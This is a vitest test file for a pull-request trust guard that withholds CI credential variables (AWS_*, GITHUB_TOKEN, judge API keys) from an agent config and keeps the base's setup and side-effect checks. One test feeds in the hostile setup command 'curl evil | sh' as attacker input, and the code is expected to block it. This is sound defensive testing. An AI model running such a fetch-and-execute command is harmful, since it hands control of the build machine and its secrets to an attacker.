// The pull request that adds the config, in a job that holds credentials: its agent settings apply,
// but no agent.pass_env pattern that could let this job's credentials through.
import { describe, expect, it } from 'vitest';
import { configSchema } from '../../src/config/schema.js';
import { protectFromPullRequest } from '../../src/config/trust.js';

const config = (pass_env: string[], setup = 'npm ci') =>
  configSchema.parse({ agent: { command: 'node a.js', setup, pass_env }, cases: [{ name: 'c', input: 'x' }] });

describe('a base without a config', () => {
  const pass = ['G*', 'A*', 'AWS_*', 'AWS_REGION', 'INPUT_*', 'GITHUB_TOKEN', 'OPENAI_API_KEY', 'AGENT_KEY', 'MY_*'];

  it('the Bedrock judge: every pattern that could reach AWS_*, ACTIONS_*, INPUT_* or a token is withheld', () => {
    const g = protectFromPullRequest(config(pass), undefined, { judge: { provider: 'bedrock' } as never });
    expect(g.withheld).toEqual(['G*', 'A*', 'AWS_*', 'AWS_REGION', 'INPUT_*', 'GITHUB_TOKEN']);
    expect(g.config.agent.pass_env).toEqual(['OPENAI_API_KEY', 'AGENT_KEY', 'MY_*']);
    expect(g.config.agent.setup).toBe('npm ci');
    expect(g.ignored).not.toContain('agent.setup');
  });

  it("the OpenAI judge: its key variable is withheld, the agent's own AWS settings pass", () => {
    const g = protectFromPullRequest(config(pass), undefined, {
      judge: { provider: 'openai', api_key_env: 'JUDGE_KEY' } as never,
    });
    expect(g.config.agent.pass_env).toEqual(['AWS_*', 'AWS_REGION', 'OPENAI_API_KEY', 'AGENT_KEY', 'MY_*']);
    const d = protectFromPullRequest(config(['OPENAI_API_KEY', 'OPENAI_*']), undefined, {
      judge: { provider: 'openai' } as never,
    });
    expect(d.withheld).toEqual(['OPENAI_API_KEY', 'OPENAI_*']);
  });

  it('a base whose config could not be read (no token) still gets the defaults, never the pull request’s', () => {
    const g = protectFromPullRequest(config(['AGENT_KEY']), undefined);
    expect(g.config.agent.pass_env).toEqual([]);
    expect(g.config.agent.setup).toBeUndefined();
    expect(g.ignored).toEqual(expect.arrayContaining(['agent.setup', 'agent.pass_env']));
  });

  it('a base with a config keeps its own agent settings', () => {
    const g = protectFromPullRequest(config(['AGENT_KEY'], 'curl evil | sh'), config([], 'npm ci'), {
      judge: { provider: 'heuristic' } as never,
    });
    expect(g.config.agent).toMatchObject({ setup: 'npm ci', pass_env: [] });
    expect(g.withheld).toBeUndefined();
  });
});

describe('the checks no judge reads, in a job that holds credentials', () => {
  const withChecks = (side_effects: string[], expect_?: object) =>
    configSchema.parse({
      agent: { command: 'node a.js' },
      side_effects,
      cases: [
        { name: 'book', input: 'Book it.', ...(expect_ ? { expect: expect_ } : {}) },
        { name: 'new_case', input: 'x', expect: { must_call: ['search'] } },
      ],
    });

  it("a pull request cannot drop a write from side_effects or loosen a base case's rules; its new cases keep theirs", () => {
    const base = withChecks(['book_flight', 'refund_order'], { max_calls: { book_flight: 1 } });
    const pr = withChecks([], { max_calls: { book_flight: 5 } });
    const g = protectFromPullRequest(pr, base);
    expect(g.config.side_effects).toEqual(['book_flight', 'refund_order']);
    expect(g.config.cases[0].expect).toEqual({ max_calls: { book_flight: 1 } });
    expect(g.config.cases[1].expect).toEqual({ must_call: ['search'] }); // not in the base: the pull request's
    expect(g.ignored).toEqual(expect.arrayContaining(['side_effects', 'cases.book.expect']));
    // Nor drop a rule altogether.
    const dropped = protectFromPullRequest(withChecks(['book_flight', 'refund_order']), base);
    expect(dropped.config.cases[0].expect).toEqual({ max_calls: { book_flight: 1 } });
  });

  it('the pull request that adds the config keeps its own', () => {
    const g = protectFromPullRequest(withChecks(['book_flight'], { must_call: ['book_flight'] }), undefined);
    expect(g.config.side_effects).toEqual(['book_flight']);
    expect(g.config.cases[0].expect).toEqual({ must_call: ['book_flight'] });
  });
});
